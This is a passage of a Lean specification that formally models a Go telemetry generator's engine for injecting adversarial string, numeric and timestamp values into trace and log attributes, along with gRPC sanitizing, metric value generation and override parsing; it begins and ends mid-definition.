  else if r = 127 then false
  else r ≠ RuneError

/-- The function `isValidUTF8ForGRPC`: valid UTF-8 without problematic control
bytes. -/
def isValidUTF8ForGRPC (s : GoString) : Bool :=
  if !ValidString s then false
  else s.all (fun b => !isProblematicControlChar b)

/-- The function `sanitizeForGRPC`: the string itself on the fast path,
otherwise the runes of the string that are safe for gRPC, encoded again. -/
def sanitizeForGRPC (s : GoString) : GoString :=
  if isValidUTF8ForGRPC s then s
  else stringOfRunes ((rangeRunes 0 s).filter isValidRuneForGRPC)

/-- The function `GetAggroValues`: the three corpora as one list of strings. -/
def GetAggroValues {T : Type} (env : Env T) : List GoString :=
  let values := [] ++ GetAggroStrings env
  let values := values ++ GetAggroNumerics env
  appendTimestampValues env values (GetAggroTimestamps env)

/-- The function `GetAggroValuesForProtocol`: as `GetAggroValues`, with the
string corpus sanitized when the protocol is "grpc". -/
def GetAggroValuesForProtocol {T : Type} (env : Env T) (protocol : GoString) : List GoString :=
  let stringValues := GetAggroStrings env
  let stringValues :=
    if protocol = lit "grpc" then stringValues.map sanitizeForGRPC else stringValues
  let values := [] ++ stringValues
  let values := values ++ GetAggroNumerics env
  appendTimestampValues env values (GetAggroTimestamps env)

/-! ## The injection engine: trace attributes -/

/-- The inner loop over `skipKeys` (with `break`): does the key occur in the
skip list. -/
def shouldSkip (key : GoString) : List GoString → Bool
  | [] => false
  | skipKey :: rest => if key = skipKey then true else shouldSkip key rest

/-- The first loop of `applyAggroToTraceAttributes`: the keys of the attributes
that are not in `skipKeys`, in order. -/
def availableTraceKeys {α : Type} : List (KeyValue α) → List GoString → List GoString
  | [], _ => []
  | attr :: rest, skipKeys =>
    if shouldSkip attr.Key skipKeys then availableTraceKeys rest skipKeys
    else attr.Key :: availableTraceKeys rest skipKeys

/-- The loop `for _, key := range availableKeys` (with `break`): is the target
among the available keys. -/
def foundIn (target : GoString) : List GoString → Bool
  | [] => false
  | key :: rest => if key = target then true else foundIn target rest

/-- The last loop of `applyAggroToTraceAttributes` (with `break`): the first
attribute whose key is `targetKey` becomes the string attribute
`(targetKey, aggroValue)`. -/
def replaceTraceValue {α : Type} (targetKey aggroValue : GoString) :
    List (KeyValue α) → List (KeyValue α)
  | [] => []
  | attr :: rest =>
    if attr.Key = targetKey then attributeString targetKey aggroValue :: rest
    else attr :: replaceTraceValue targetKey aggroValue rest

/-- What one call of `applyAggroToTraceAttributes` leaves behind: the slice it
was given (mutated in place), its two results and the random source. -/
structure TraceStep (α : Type) where
  attrs : List (KeyValue α)
  targetKey : GoString
  modified : Bool
  rng : Rng

/-- The method `applyAggroToTraceAttributes`. -/
def applyAggroToTraceAttributes {α : Type} (attrs : List (KeyValue α))
    (aggroValues : List GoString) (target : GoString) (skipKeys : List GoString)
    (g : Rng) : TraceStep α :=
  let availableKeys := availableTraceKeys attrs skipKeys
  if availableKeys.length = 0 then ⟨attrs, [], false, g⟩
  else if target ≠ [] then
    if !foundIn target availableKeys then ⟨attrs, [], false, g⟩
    else
      let targetKey := target
      let aggroValue := RandomChoice aggroValues g
      ⟨replaceTraceValue targetKey aggroValue.1 attrs, targetKey, true, aggroValue.2⟩
  else
    let targetKey := RandomChoice availableKeys g
    let aggroValue := RandomChoice aggroValues targetKey.2
    ⟨replaceTraceValue targetKey.1 aggroValue.1 attrs, targetKey.1, true, aggroValue.2⟩

/-- The results of `ApplyAggroToTraceAttributes` and the random source after the
call. -/
structure TraceResult (α : Type) where
  attrs : List (KeyValue α)
  metadata : List (KeyValue α)
  rng : Rng

/-- The method `ApplyAggroToTraceAttributes`. -/
def ApplyAggroToTraceAttributes {T α : Type} (env : Env T) (config : AggroConfig)
    (attrs : List (KeyValue α)) (skipKeys : List GoString) (protocol : GoString)
    (g : Rng) : TraceResult α :=
  if !config.HasAnyActive then ⟨attrs, [], g⟩
  else
    let s0 : TraceResult α := ⟨attrs, [], g⟩
    -- Apply string aggro
    let s1 : TraceResult α :=
      if config.StringActive then
        let stringValues := GetAggroStrings env
        let stringValues :=
          if protocol = lit "grpc" then stringValues.map sanitizeForGRPC else stringValues
        if stringValues.length > 0 then
          let r := applyAggroToTraceAttributes s0.attrs stringValues config.StringTarget skipKeys s0.rng
          if r.modified then
            ⟨r.attrs, s0.metadata ++ [attributeString (lit "aggro.string") r.targetKey], r.rng⟩
          else ⟨r.attrs, s0.metadata, r.rng⟩
        else s0
      else s0
    -- Apply numeric aggro
    let s2 : TraceResult α :=
      if config.NumericActive then
        let numericValues := GetAggroNumerics env
        if numericValues.length > 0 then
          let r := applyAggroToTraceAttributes s1.attrs numericValues config.NumericTarget skipKeys s1.rng
          if r.modified then
            ⟨r.attrs, s1.metadata ++ [attributeString (lit "aggro.numeric") r.targetKey], r.rng⟩
          else ⟨r.attrs, s1.metadata, r.rng⟩
        else s1
      else s1
    -- Apply timestamp aggro
    if config.TimestampActive then
      let timestamps := GetAggroTimestamps env
      let timestampValues := appendTimestampValues env [] timestamps
      if timestampValues.length > 0 then
        let r := applyAggroToTraceAttributes s2.attrs timestampValues config.TimestampTarget skipKeys s2.rng
        if r.modified then
          ⟨r.attrs, s2.metadata ++ [attributeString (lit "aggro.timestamp") r.targetKey], r.rng⟩
        else ⟨r.attrs, s2.metadata, r.rng⟩
      else s2
    else s2

/-! ## The injection engine: log attributes and message -/

/-- The first loop of `applyAggroToLogAttributes`: the keys of the attributes
that are not in `skipKeys` are appended, in order, to the keys collected so
far. -/
def appendLogKeys {α : Type} :
    List GoString → List (KeyValue α) → List GoString → List GoString
  | availableKeys, [], _ => availableKeys
  | availableKeys, attr :: rest, skipKeys =>
    if shouldSkip attr.Key skipKeys then appendLogKeys availableKeys rest skipKeys
    else appendLogKeys (availableKeys ++ [attr.Key]) rest skipKeys

/-- The last loop of `applyAggroToLogAttributes` (with `break`). -/
def replaceLogValue {α : Type} (targetKey aggroValue : GoString) :
    List (KeyValue α) → List (KeyValue α)
  | [] => []
  | attr :: rest =>
    if attr.Key = targetKey then otellogString targetKey aggroValue :: rest
    else attr :: replaceLogValue targetKey aggroValue rest

/-- What one call of `applyAggroToLogAttributes` leaves behind: the slice and
the message it was given (mutated in place), its two results and the random
source. -/
structure LogStep (α : Type) where
  attrs : List (KeyValue α)
  logMessage : GoString
  targetKey : GoString
  modified : Bool
  rng : Rng

/-- Lines 282 to 298 of `applyAggroToLogAttributes`: a value is chosen at
random and replaces the message or the first attribute with the target key. -/
def applyLogValue {α : Type} (attrs : List (KeyValue α)) (logMessage : GoString)
    (aggroValues : List GoString) (targetKey : GoString) (g : Rng) : LogStep α :=
  let aggroValue := RandomChoice aggroValues g
  if targetKey = lit "message" then
    ⟨attrs, aggroValue.1, targetKey, true, aggroValue.2⟩
  else
    ⟨replaceLogValue targetKey aggroValue.1 attrs, logMessage, targetKey, true, aggroValue.2⟩

/-- The method `applyAggroToLogAttributes`. -/
def applyAggroToLogAttributes {α : Type} (attrs : List (KeyValue α)) (logMessage : GoString)
    (aggroValues : List GoString) (target : GoString) (skipKeys : List GoString)
    (g : Rng) : LogStep α :=
  let availableKeys := appendLogKeys ([] ++ [lit "message"]) attrs skipKeys
  if availableKeys.length = 0 then ⟨attrs, logMessage, [], false, g⟩
  else if target ≠ [] then
    if !foundIn target availableKeys then ⟨attrs, logMessage, [], false, g⟩
    else applyLogValue attrs logMessage aggroValues target g
  else
    let targetKey := RandomChoice availableKeys g
    applyLogValue attrs logMessage aggroValues targetKey.1 targetKey.2

/-- The results of `ApplyAggroToLogAttributes` and the random source after the
call. -/
structure LogResult (α : Type) where
  attrs : List (KeyValue α)
  message : GoString
  metadata : List (KeyValue α)
  rng : Rng

/-- The method `ApplyAggroToLogAttributes`. -/
def ApplyAggroToLogAttributes {T α : Type} (env : Env T) (config : AggroConfig)
    (attrs : List (KeyValue α)) (logMessage : GoString) (skipKeys : List GoString)
    (protocol : GoString) (g : Rng) : LogResult α :=
  if !config.HasAnyActive then ⟨attrs, logMessage, [], g⟩
  else
    let s0 : LogResult α := ⟨attrs, logMessage, [], g⟩
    -- Apply string aggro
    let s1 : LogResult α :=
      if config.StringActive then
        let stringValues := GetAggroStrings env
        let stringValues :=
          if protocol = lit "grpc" then stringValues.map sanitizeForGRPC else stringValues
        if stringValues.length > 0 then
          let r := applyAggroToLogAttributes s0.attrs s0.message stringValues config.StringTarget skipKeys s0.rng
          if r.modified then
            ⟨r.attrs, r.logMessage, s0.metadata ++ [otellogString (lit "aggro.string") r.targetKey], r.rng⟩
          else ⟨r.attrs, r.logMessage, s0.metadata, r.rng⟩
        else s0
      else s0
    -- Apply numeric aggro
    let s2 : LogResult α :=
      if config.NumericActive then
        let numericValues := GetAggroNumerics env
        if numericValues.length > 0 then
          let r := applyAggroToLogAttributes s1.attrs s1.message numericValues config.NumericTarget skipKeys s1.rng
          if r.modified then
            ⟨r.attrs, r.logMessage, s1.metadata ++ [otellogString (lit "aggro.numeric") r.targetKey], r.rng⟩
          else ⟨r.attrs, r.logMessage, s1.metadata, r.rng⟩
        else s1
      else s1
    -- Apply timestamp aggro
    if config.TimestampActive then
      let timestamps := GetAggroTimestamps env
      let timestampValues := appendTimestampValues env [] timestamps
      if timestampValues.length > 0 then
        let r := applyAggroToLogAttributes s2.attrs s2.message timestampValues config.TimestampTarget skipKeys s2.rng
        if r.modified then
          ⟨r.attrs, r.logMessage, s2.metadata ++ [otellogString (lit "aggro.timestamp") r.targetKey], r.rng⟩
        else ⟨r.attrs, r.logMessage, s2.metadata, r.rng⟩
      else s2
    else s2

/-! ## Vocabulary of the specification

The three category blocks of the two public methods differ only in the corpus,
the metadata key, the activation flag and the target they use. The definitions
below name these per category, so that a statement can speak about "a
category". -/

/-- The three categories of adversarial values, in processing order. -/
inductive Category where
  | string
  | numeric
  | timestamp
  deriving DecidableEq, Repr

/-- The activation flag of a category. -/
def AggroConfig.active (config : AggroConfig) : Category → Bool
  | .string => config.StringActive
  | .numeric => config.NumericActive
  | .timestamp => config.TimestampActive

/-- The configured target of a category (empty: random targeting). -/
def AggroConfig.target (config : AggroConfig) : Category → GoString
  | .string => config.StringTarget
  | .numeric => config.NumericTarget
  | .timestamp => config.TimestampTarget

/-- The category is the only active one. -/
def AggroConfig.onlyActive (config : AggroConfig) (c : Category) : Prop :=
  ∀ d : Category, config.active d = true ↔ d = c

/-- The metadata key under which a category reports its target. -/
def Category.metaKey : Category → GoString
  | .string => lit "aggro.string"
  | .numeric => lit "aggro.numeric"
  | .timestamp => lit "aggro.timestamp"

/-- The string values a category injects: the string corpus (sanitized entry by
entry when the protocol is "grpc"), the numeric corpus, or the RFC 3339 form
and the Unix-seconds form of every timestamp of the timestamp corpus. -/
def categoryValues {T : Type} (env : Env T) (protocol : GoString) : Category → List GoString
  | .string =>
    if protocol = lit "grpc" then (GetAggroStrings env).map sanitizeForGRPC
    else GetAggroStrings env
  | .numeric => GetAggroNumerics env
  | .timestamp =>
    ((GetAggroTimestamps env).map
      (fun ts => [env.time.FormatRFC3339 ts, FormatInt (env.time.ToUnix ts)])).flatten

/-- The keys of the attributes, in order. -/
def keysOf {α : Type} (attrs : List (KeyValue α)) : List GoString := attrs.map (fun a => a.Key)

/-- The metadata entries with a given key. -/
def entriesFor {α : Type} (key : GoString) (metadata : List (KeyValue α)) : List (KeyValue α) :=
  metadata.filter (fun kv => kv.Key = key)

/-- The metadata reports the key `k`: some entry has the string value `k`. -/
def Reports {α : Type} (metadata : List (KeyValue α)) (k : GoString) : Prop :=
  ∃ kv ∈ metadata, kv.Value = Value.string k

/-- One category block of `ApplyAggroToTraceAttributes`, with the values, the
metadata key, the target and the activation flag of the category as
arguments. -/
def tracePhase {α : Type} (values : List GoString) (name target : GoString) (active : Bool)
    (skipKeys : List GoString) (s : TraceResult α) : TraceResult α :=
  if active then
    if values.length > 0 then
      let r := applyAggroToTraceAttributes s.attrs values target skipKeys s.rng
      if r.modified then ⟨r.attrs, s.metadata ++ [attributeString name r.targetKey], r.rng⟩
      else ⟨r.attrs, s.metadata, r.rng⟩
    else s
  else s

/-- One category block of `ApplyAggroToLogAttributes`. -/
def logPhase {α : Type} (values : List GoString) (name target : GoString) (active : Bool)
    (skipKeys : List GoString) (s : LogResult α) : LogResult α :=
  if active then
    if values.length > 0 then
      let r := applyAggroToLogAttributes s.attrs s.message values target skipKeys s.rng
      if r.modified then
        ⟨r.attrs, r.logMessage, s.metadata ++ [otellogString name r.targetKey], r.rng⟩
      else ⟨r.attrs, r.logMessage, s.metadata, r.rng⟩
    else s
  else s

/-- The categories in the order in which the engine processes them. -/
def Category.order : List Category := [.string, .numeric, .timestamp]

/-- The category fires on a list of trace attributes: it is active, some key is
available, and its target is empty (random targeting) or available. -/
def traceFires (config : AggroConfig) (avail : List GoString) (c : Category) : Bool :=
  decide (config.active c = true ∧ avail ≠ [] ∧ (config.target c = [] ∨ config.target c ∈ avail))

/-- The category fires on a log record: it is active and its target is empty
(random targeting), the message, or an available attribute key. -/
def logFires (config : AggroConfig) (avail : List GoString) (c : Category) : Bool :=
  decide (config.active c = true ∧
    (config.target c = [] ∨ config.target c ∈ lit "message" :: avail))

/-- The effect on a log record of injecting the value `v` at the target `k`: the
message is replaced when the target is "message", otherwise the first
attribute with key `k` is. -/
def logInject {α : Type} (k v : GoString) (rec : List (KeyValue α) × GoString) :
    List (KeyValue α) × GoString :=
  if k = lit "message" then (rec.1, v) else (replaceLogValue k v rec.1, rec.2)

/-- A Unicode scalar value: at most `MaxRune` and not a surrogate. These are
the runes that have a UTF-8 encoding of their own. -/
def IsScalar (r : Nat) : Prop := r ≤ 0x10FFFF ∧ ¬ (0xD800 ≤ r ∧ r ≤ 0xDFFF)

/-- The element that `RandomChoice` returns for a draw: the one at index
`draw % 2^64 % len`. -/
def pick (keys : List GoString) (draw : Nat) : GoString :=
  keys.getD (draw % 2 ^ 64 % keys.length) []

/-- The number of draws of the random source that a category block of
`ApplyAggroToTraceAttributes` makes: two when the category fires with random
targeting (the key, then the value), one when it fires with an explicit target
(the value), none when it does not fire. -/
def drawsUsed (config : AggroConfig) (avail : List GoString) (c : Category) : Nat :=
  if traceFires config avail c then (if config.target c = [] then 2 else 1) else 0

/-- The number of draws that the categories processed before a category make. -/
def drawsBefore (config : AggroConfig) (avail : List GoString) : Category → Nat
  | .string => 0
  | .numeric => drawsUsed config avail .string
  | .timestamp => drawsUsed config avail .string + drawsUsed config avail .numeric

/-- The target choice of a category: its explicit target, or under random
targeting the available key picked by the draw that the category reads for
its key. -/
def chosenTarget (config : AggroConfig) (avail : List GoString) (g : Rng) (c : Category) :
    GoString :=
  if config.target c = [] then pick avail (g.draws (g.pos + drawsBefore config avail c))
  else config.target c

/-- The position of a category in the processing order. -/
def Category.index : Category → Nat
  | .string => 0
  | .numeric => 1
  | .timestamp => 2

/-- The category selects the key `k`: it fires and its target choice is `k`. -/
def selects (config : AggroConfig) (avail : List GoString) (g : Rng) (c : Category)
    (k : GoString) : Prop :=
  traceFires config avail c = true ∧ chosenTarget config avail g c = k

/-! ## The engine over any chooser, with the panic of the timestamp corpus

The private helpers and the public methods once more, with two things made
explicit that the embedding above leaves out. The function that chooses at
random (`random.RandomChoice` in the source) is an argument `choose`, with the
state it works on, so that a chooser that keeps a record of its calls can be
put in its place. And building the timestamp corpus can panic. -/

/-- The function `GetAggroTimestamps` with its panic. The errors of the three
calls of `time.LoadLocation` are discarded, a zone that cannot be loaded leaves
a nil location, and `time.Date` panics on a nil location. The result is `none`
when the call panics. -/
def GetAggroTimestampsRun {T : Type} (env : Env T) : Option (List T) :=
  if env.time.LoadLocationOK (lit "America/New_York") = true ∧
      env.time.LoadLocationOK (lit "America/Los_Angeles") = true ∧
      env.time.LoadLocationOK (lit "Asia/Tokyo") = true then
    some (GetAggroTimestamps env)
  else none

/-- What one call of `applyAggroToTraceAttributes` leaves behind, over a chooser
with states of type `σ`. -/
structure TraceStepWith (α σ : Type) where
  attrs : List (KeyValue α)
  targetKey : GoString
  modified : Bool
  state : σ

/-- The method `applyAggroToTraceAttributes` over the chooser `choose`. -/
def applyAggroToTraceAttributesWith {α σ : Type}
    (choose : List GoString → σ → GoString × σ) (attrs : List (KeyValue α))
    (aggroValues : List GoString) (target : GoString) (skipKeys : List GoString)
    (s : σ) : TraceStepWith α σ :=
  let availableKeys := availableTraceKeys attrs skipKeys
  if availableKeys.length = 0 then ⟨attrs, [], false, s⟩
  else if target ≠ [] then
    if !foundIn target availableKeys then ⟨attrs, [], false, s⟩
    else
      let targetKey := target
      let aggroValue := choose aggroValues s
      ⟨replaceTraceValue targetKey aggroValue.1 attrs, targetKey, true, aggroValue.2⟩
  else
    let targetKey := choose availableKeys s
    let aggroValue := choose aggroValues targetKey.2
    ⟨replaceTraceValue targetKey.1 aggroValue.1 attrs, targetKey.1, true, aggroValue.2⟩

/-- The attributes and the metadata of `ApplyAggroToTraceAttributes` between two
category blocks, with the state of the chooser. -/
structure TraceStateWith (α σ : Type) where
  attrs : List (KeyValue α)
  metadata : List (KeyValue α)
  state : σ

/-- One category block of `ApplyAggroToTraceAttributes` over the chooser
`choose`: the block does nothing when the category is not active or its values
are empty. -/
def traceBlockWith {α σ : Type} (choose : List GoString → σ → GoString × σ)
    (values : List GoString) (name target : GoString) (active : Bool)
    (skipKeys : List GoString) (st : TraceStateWith α σ) : TraceStateWith α σ :=
  if active then
    if values.length > 0 then
      let r := applyAggroToTraceAttributesWith choose st.attrs values target skipKeys st.state
      if r.modified then ⟨r.attrs, st.metadata ++ [attributeString name r.targetKey], r.state⟩
      else ⟨r.attrs, st.metadata, r.state⟩
    else st
  else st

/-- The outcome of a call of `ApplyAggroToTraceAttributes`: its two results, or
`none` when the call panics, and the state of the chooser at that point. -/
structure TraceRun (α σ : Type) where
  result : Option (List (KeyValue α) × List (KeyValue α))
  state : σ

/-- The method `ApplyAggroToTraceAttributes` over the chooser `choose`, with the
panic of `GetAggroTimestamps`: the timestamp corpus is built when the timestamp
category is active, after the string block and the numeric block have run. -/
def ApplyAggroToTraceAttributesWith {T α σ : Type}
    (choose : List GoString → σ → GoString × σ) (env : Env T) (config : AggroConfig)
    (attrs : List (KeyValue α)) (skipKeys : List GoString) (protocol : GoString)
    (s : σ) : TraceRun α σ :=
  if !config.HasAnyActive then ⟨some (attrs, []), s⟩
  else
    let stringValues :=
      if protocol = lit "grpc" then (GetAggroStrings env).map sanitizeForGRPC
      else GetAggroStrings env
    let s1 := traceBlockWith choose stringValues (lit "aggro.string") config.StringTarget
      config.StringActive skipKeys ⟨attrs, [], s⟩
    let numericValues := GetAggroNumerics env
    let s2 := traceBlockWith choose numericValues (lit "aggro.numeric") config.NumericTarget
      config.NumericActive skipKeys s1
    if config.TimestampActive then
      match GetAggroTimestampsRun env with
      | none => ⟨none, s2.state⟩
      | some timestamps =>
        let timestampValues := appendTimestampValues env [] timestamps
        let s3 := traceBlockWith choose timestampValues (lit "aggro.timestamp")
          config.TimestampTarget true skipKeys s2
        ⟨some (s3.attrs, s3.metadata), s3.state⟩
    else ⟨some (s2.attrs, s2.metadata), s2.state⟩

/-- What one call of `applyAggroToLogAttributes` leaves behind, over a chooser
with states of type `σ`. -/
structure LogStepWith (α σ : Type) where
  attrs : List (KeyValue α)
  logMessage : GoString
  targetKey : GoString
  modified : Bool
  state : σ

/-- Lines 282 to 298 of `applyAggroToLogAttributes` over the chooser `choose`. -/
def applyLogValueWith {α σ : Type} (choose : List GoString → σ → GoString × σ)
    (attrs : List (KeyValue α)) (logMessage : GoString) (aggroValues : List GoString)
    (targetKey : GoString) (s : σ) : LogStepWith α σ :=
  let aggroValue := choose aggroValues s
  if targetKey = lit "message" then
    ⟨attrs, aggroValue.1, targetKey, true, aggroValue.2⟩
  else
    ⟨replaceLogValue targetKey aggroValue.1 attrs, logMessage, targetKey, true, aggroValue.2⟩

/-- The method `applyAggroToLogAttributes` over the chooser `choose`. -/
def applyAggroToLogAttributesWith {α σ : Type}
    (choose : List GoString → σ → GoString × σ) (attrs : List (KeyValue α))
    (logMessage : GoString) (aggroValues : List GoString) (target : GoString)
    (skipKeys : List GoString) (s : σ) : LogStepWith α σ :=
  let availableKeys := appendLogKeys ([] ++ [lit "message"]) attrs skipKeys
  if availableKeys.length = 0 then ⟨attrs, logMessage, [], false, s⟩
  else if target ≠ [] then
    if !foundIn target availableKeys then ⟨attrs, logMessage, [], false, s⟩
    else applyLogValueWith choose attrs logMessage aggroValues target s
  else
    let targetKey := choose availableKeys s
    applyLogValueWith choose attrs logMessage aggroValues targetKey.1 targetKey.2

/-- The attributes, the message and the metadata of `ApplyAggroToLogAttributes`
between two category blocks, with the state of the chooser. -/
structure LogStateWith (α σ : Type) where
  attrs : List (KeyValue α)
  message : GoString
  metadata : List (KeyValue α)
  state : σ

/-- One category block of `ApplyAggroToLogAttributes` over the chooser
`choose`. -/
def logBlockWith {α σ : Type} (choose : List GoString → σ → GoString × σ)
    (values : List GoString) (name target : GoString) (active : Bool)
    (skipKeys : List GoString) (st : LogStateWith α σ) : LogStateWith α σ :=
  if active then
    if values.length > 0 then
      let r := applyAggroToLogAttributesWith choose st.attrs st.message values target skipKeys
        st.state
      if r.modified then
        ⟨r.attrs, r.logMessage, st.metadata ++ [otellogString name r.targetKey], r.state⟩
      else ⟨r.attrs, r.logMessage, st.metadata, r.state⟩
    else st
  else st

/-- The outcome of a call of `ApplyAggroToLogAttributes`: its three results, or
`none` when the call panics, and the state of the chooser at that point. -/
structure LogRun (α σ : Type) where
  result : Option (List (KeyValue α) × GoString × List (KeyValue α))
  state : σ

/-- The method `ApplyAggroToLogAttributes` over the chooser `choose`, with the
panic of `GetAggroTimestamps`. -/
def ApplyAggroToLogAttributesWith {T α σ : Type}
    (choose : List GoString → σ → GoString × σ) (env : Env T) (config : AggroConfig)
    (attrs : List (KeyValue α)) (logMessage : GoString) (skipKeys : List GoString)
    (protocol : GoString) (s : σ) : LogRun α σ :=
  if !config.HasAnyActive then ⟨some (attrs, logMessage, []), s⟩
  else
    let stringValues :=
      if protocol = lit "grpc" then (GetAggroStrings env).map sanitizeForGRPC
      else GetAggroStrings env
    let s1 := logBlockWith choose stringValues (lit "aggro.string") config.StringTarget
      config.StringActive skipKeys ⟨attrs, logMessage, [], s⟩
    let numericValues := GetAggroNumerics env
    let s2 := logBlockWith choose numericValues (lit "aggro.numeric") config.NumericTarget
      config.NumericActive skipKeys s1
    if config.TimestampActive then
      match GetAggroTimestampsRun env with
      | none => ⟨none, s2.state⟩
      | some timestamps =>
        let timestampValues := appendTimestampValues env [] timestamps
        let s3 := logBlockWith choose timestampValues (lit "aggro.timestamp")
          config.TimestampTarget true skipKeys s2
        ⟨some (s3.attrs, s3.message, s3.metadata), s3.state⟩
    else ⟨some (s2.attrs, s2.message, s2.metadata), s2.state⟩

/-- A chooser that keeps a record: it chooses as `choose` does and appends the
list it was called on to the record of the calls. -/
def recording {σ : Type} (choose : List GoString → σ → GoString × σ) :
    List GoString → σ × List (List GoString) → GoString × (σ × List (List GoString)) :=
  fun things s => ((choose things s.1).1, ((choose things s.1).2, s.2 ++ [things]))

/-- The three zones of the timestamp corpus can be loaded. -/
def zonesLoad {T : Type} (env : Env T) : Prop :=
  env.time.LoadLocationOK (lit "America/New_York") = true ∧
  env.time.LoadLocationOK (lit "America/Los_Angeles") = true ∧
  env.time.LoadLocationOK (lit "Asia/Tokyo") = true

/-! ## Metric values and the metric dispatch -/

/-- The value of a Go `int` expression: 64-bit two's complement wrap-around. -/
def wrapInt (x : Int) : Int := (x + 2 ^ 63) % 2 ^ 64 - 2 ^ 63

/-- The function `generateFreshRandomValue`, that is the expression
`randomness.Intn(counterMax-counterMin+1) + counterMin` in `int` arithmetic. -/
def generateFreshRandomValue (counterMin counterMax : Int) (g : Rng) : Int × Rng :=
  let n := wrapInt (wrapInt (counterMax - counterMin) + 1)
  (wrapInt ((Intn n g).1 + counterMin), (Intn n g).2)

/-- Go's conversion `float64(x)` of a `uint64`: the nearest float64 (53
significant bits), ties to even, given as the integer it stands for. Here `e`
is the number of low bits that do not fit. -/
def roundToFloat64 (x : Nat) : Nat :=
  let e := ((List.range 12).find? (fun e => x / 2 ^ e < 2 ^ 53)).getD 0
  if e = 0 then x
  else
    let q := x / 2 ^ e
    let r := x % 2 ^ e
    let half := 2 ^ (e - 1)
    if r > half ∨ (r = half ∧ q % 2 = 1) then (q + 1) * 2 ^ e else q * 2 ^ e

/-- Go's conversion `float64(x)` of an `int`: the nearest float64, ties to even,
given as the integer it stands for. -/
def intToFloat64 (x : Int) : Int :=
  if x < 0 then -Int.ofNat (roundToFloat64 x.natAbs) else Int.ofNat (roundToFloat64 x.natAbs)

/-- The function `randomness.Float64`, that is
`float64(random.GetRandom()) / float64(1<<64)`. The result is given by its
numerator over `2^64`: the division of a float64 by a power of two is exact. -/
def Float64 (g : Rng) : Nat × Rng :=
  (roundToFloat64 (GetRandom g).1, (GetRandom g).2)

/-- The comparison `randomness.Float64() < 0.3` on the numerator over `2^64`: the
constant 0.3 is the float64 `5404319552844595 / 2^54`. -/
def lessThan03 (numerator : Nat) : Bool :=
  numerator * 2 ^ 54 < 5404319552844595 * 2 ^ 64

/-- The functions of the package `metrics` that `Generate` dispatches to. -/
inductive MetricGenerator where
  | GenerateInt64Counter
  | GenerateFloat64Counter
  | GenerateFloat64Histogram
  | GenerateInt64Histogram
  | GenerateInt64UpDownCounter
  | GenerateFloat64UpDownCounter
  | GenerateInt64Gauge
  | GenerateFloat64Gauge
  | GenerateInt64ObservableCounter
  | GenerateFloat64ObservableCounter
  | GenerateInt64ObservableUpDownCounter
  | GenerateFloat64ObservableUpDownCounter
  | GenerateInt64ObservableGauge
  | GenerateFloat64ObservableGauge
  deriving DecidableEq, Repr

/-- The value that a function of the package `metrics` computes, in one turn of
its loop, for the data point it records (it is the argument of `Add`, `Record`
or `Observe`), and the random source after it. Every function evaluates
`randomness.Intn(counterMax-counterMin+1) + counterMin` in `int` arithmetic.
The `Int64` functions convert it with `int64(...)`, which keeps the value; the
`Float64` functions convert it with `float64(...)`, which rounds. The four
up-down counter functions then draw `randomness.Float64()` and negate the
value when the draw is below 0.3. A `float64` value is given as the integer it
stands for. -/
def recordedValue (f : MetricGenerator) (counterMin counterMax : Int) (g : Rng) : Int × Rng :=
  let n := wrapInt (wrapInt (counterMax - counterMin) + 1)
  let sum := wrapInt ((Intn n g).1 + counterMin)
  let g1 := (Intn n g).2
  match f with
  | .GenerateInt64Counter => (sum, g1)
  | .GenerateFloat64Counter => (intToFloat64 sum, g1)
  | .GenerateFloat64Histogram => (intToFloat64 sum, g1)
  | .GenerateInt64Histogram => (sum, g1)
  | .GenerateInt64UpDownCounter =>
    if lessThan03 (Float64 g1).1 then (wrapInt (-sum), (Float64 g1).2) else (sum, (Float64 g1).2)
  | .GenerateFloat64UpDownCounter =>
    if lessThan03 (Float64 g1).1 then (-intToFloat64 sum, (Float64 g1).2)
    else (intToFloat64 sum, (Float64 g1).2)
  | .GenerateInt64Gauge => (sum, g1)
  | .GenerateFloat64Gauge => (intToFloat64 sum, g1)
  | .GenerateInt64ObservableCounter => (sum, g1)
  | .GenerateFloat64ObservableCounter => (intToFloat64 sum, g1)
  | .GenerateInt64ObservableUpDownCounter =>
    if lessThan03 (Float64 g1).1 then (wrapInt (-sum), (Float64 g1).2) else (sum, (Float64 g1).2)
  | .GenerateFloat64ObservableUpDownCounter =>
    if lessThan03 (Float64 g1).1 then (-intToFloat64 sum, (Float64 g1).2)
    else (intToFloat64 sum, (Float64 g1).2)
  | .GenerateInt64ObservableGauge => (sum, g1)
  | .GenerateFloat64ObservableGauge => (intToFloat64 sum, g1)

/-- The function records a `float64`. -/
def MetricGenerator.recordsFloat64 : MetricGenerator → Bool
  | .GenerateFloat64Counter => true
  | .GenerateFloat64Histogram => true
  | .GenerateFloat64UpDownCounter => true
  | .GenerateFloat64Gauge => true
  | .GenerateFloat64ObservableCounter => true
  | .GenerateFloat64ObservableUpDownCounter => true
  | .GenerateFloat64ObservableGauge => true
  | _ => false

/-- The function is one of the four up-down counter functions. -/
def MetricGenerator.isUpDown : MetricGenerator → Bool
  | .GenerateInt64UpDownCounter => true
  | .GenerateFloat64UpDownCounter => true
  | .GenerateInt64ObservableUpDownCounter => true
  | .GenerateFloat64ObservableUpDownCounter => true
  | _ => false

/-- Go `strings.SplitN(attr, "=", 2)`: `none` when the string has no "=" (the
result has one part), otherwise the text before the first "=" and the text
after it. -/
def splitFirstEq : GoString → Option (GoString × GoString)
  | [] => none
  | b :: rest =>
    if b = 61 then some ([], rest)
    else
      match splitFirstEq rest with
      | some (k, v) => some (b :: k, v)
      | none => none

/-- A Go `map[string]string`, as the list of its entries: the keys are unique and
stand in the order of their first insertion. Go leaves the order in which
`range` visits a map unspecified; here `range` visits the entries in list
order. -/
abbrev OverrideMap := List (GoString × GoString)

/-- The assignment `overrides[key] = value`. -/
def mapSet : OverrideMap → GoString → GoString → OverrideMap
  | [], key, value => [(key, value)]
  | (k, v) :: rest, key, value =>
    if k = key then (k, value) :: rest else (k, v) :: mapSet rest key value

/-- The lookup `value, exists := overrides[key]`. -/
def mapGet : OverrideMap → GoString → Option GoString
  | [], _ => none
  | (k, v) :: rest, key => if k = key then some v else mapGet rest key

/-- The loop that parses the override attributes into the map `overrides`: an
attribute without "=" is passed over. -/
def parseOverrides : OverrideMap → List GoString → OverrideMap
  | overrides, [] => overrides
  | overrides, attr :: rest =>
    match splitFirstEq attr with
    | some (k, v) => parseOverrides (mapSet overrides k v) rest
    | none => parseOverrides overrides rest

/-- The loop "Generate random attributes using faker": attribute `j` has the key
`fake.attr.<j+1>` and the value `word j` (the result of `faker.Word()`), or the
override for its key when there is one. -/
def generatedAttributes {α : Type} (numAttributes : Int) (overrides : OverrideMap)
